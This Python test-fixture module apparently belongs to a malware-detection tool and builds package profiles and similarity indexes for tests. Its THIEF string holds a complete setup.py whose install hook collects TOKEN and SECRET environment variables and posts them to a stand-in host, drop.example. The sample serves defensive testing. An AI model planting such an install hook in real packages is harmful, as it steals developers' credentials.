"""Known malware and known-good code for tests, written here and harmless."""

from __future__ import annotations

import dataclasses

from antivenom import pipeline
from antivenom.intake import from_bytes
from antivenom.judge import Knowledge, load_knowledge
from antivenom.likeness import Index, keys
from antivenom.likeness.container import Container
from antivenom.likeness.good import WHAT, Good, GoodCode, Source, pack
from antivenom.likeness.making import Group, Known, KnownText, make
from antivenom.model import fingerprint
from antivenom.model.context import NOTHING
from antivenom.model.profile import Profile
from antivenom.model.review import Review
from tests.builders.archives import sdist

THIEF = """\
import os
import json
import urllib.request
from setuptools import setup
from setuptools.command.install import install


def collect():
    found = {}
    for name, value in os.environ.items():
        if "TOKEN" in name or "SECRET" in name:
            found[name] = value
    return found


def deliver(found):
    body = json.dumps(found).encode()
    request = urllib.request.Request("https://drop.example/in", data=body)
    urllib.request.urlopen(request, timeout=5)


class Install(install):
    def run(self):
        install.run(self)
        deliver(collect())


setup(name="demo", version="1.0", cmdclass={"install": Install})
"""
LIBRARY = "import subprocess\n" + "".join(
    f"\n\ndef part_{n}(path, mode):\n"
    f"    ran = subprocess.run([path, mode, '{n}'], check=False)\n"
    f"    if ran.returncode == {n}:\n"
    f"        return part_{n + 1}(path, mode)\n"
    f"    return ran.stdout\n"
    for n in range(12)
)


def observed(text: str, name: str = "demo", **files: str) -> Profile:
    data = sdist({"setup.py": text, **files}, name=name)
    return pipeline.observe(from_bytes(data, f"{name}-1.0.tar.gz"))


def texts(profile: Profile, *only: str) -> tuple[KnownText, ...]:
    return tuple(
        KnownText(
            sha256=entry.sha256,
            functions=tuple(code for name, code in entry.functions.items() if name),
            skeleton=entry.skeleton,
            fingerprint=entry.fingerprint,
        )
        for entry in profile.manifest
        if entry.path.endswith(only or ("setup.py",))
    )


def specimen(profile: Profile, *only: str, campaign: str = "", label: str = "malware") -> Known:
    found = texts(profile, *only)
    return Known(sha256=profile.sha256, label=label, campaign=campaign, texts=found)


def good_code(profile: Profile, name: str = "library") -> GoodCode:
    prints = [fingerprint.parse(e.fingerprint) for e in profile.manifest]
    return GoodCode(
        source=Source(name, "1.0", profile.sha256),
        files=frozenset(keys.of_sha256(e.sha256) for e in profile.manifest if e.lang == "python"),
        functions=frozenset(
            keys.of_code(c) for e in profile.manifest for c in e.functions.values()
        ),
        grams=frozenset(v for p in prints if p for v in p.values),
    )


def good(*releases: GoodCode) -> Good:
    return Good(Container.of(memoryview(pack(releases)), WHAT))


def index(*known: Known, groups: tuple[Group, ...] = (), known_good: Good | None = None) -> Index:
    return Index.of(make(known, groups, known_good))


def knowing(found: Index) -> Knowledge:
    return dataclasses.replace(load_knowledge(), likeness=found)


def judged(profile: Profile, found: Index) -> Review:
    return pipeline.judge(profile, NOTHING, knowing(found))
